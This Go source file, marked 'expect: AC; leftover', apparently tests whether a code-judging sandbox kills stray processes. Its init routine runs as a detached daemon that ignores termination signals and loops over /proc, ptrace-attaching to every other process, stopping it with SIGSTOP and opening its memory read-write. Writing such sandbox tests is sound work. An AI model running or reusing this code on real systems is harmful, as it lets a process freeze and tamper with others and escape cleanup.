// expect: AC; leftover
package main

import (
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"strconv"
	"syscall"
)

// Attaches to, stops and opens the memory of whatever process comes next.
func init() {
	if len(os.Args) < 2 {
		return
	}
	signal.Ignore(syscall.SIGTERM, syscall.SIGHUP)
	for count := 0; ; count++ {
		processes, _ := os.ReadDir("/proc")
		for _, process := range processes {
			pid, err := strconv.Atoi(process.Name())
			if err != nil || pid == os.Getpid() || process.Name() == os.Args[1] {
				continue
			}
			syscall.PtraceAttach(pid)
			syscall.Kill(pid, syscall.SIGSTOP)
			if memory, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0); err == nil {
				memory.Close()
			}
		}
		if count == 2 {
			os.Stdout.WriteString("x")
		}
	}
}

func attack() {
	daemon := exec.Command("/proc/self/exe", fmt.Sprint(os.Getpid()))
	daemon.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	out, _ := daemon.StdoutPipe()
	if err := daemon.Start(); err != nil {
		panic(err)
	}
	out.Read(make([]byte, 1))
	fmt.Println("right")
}
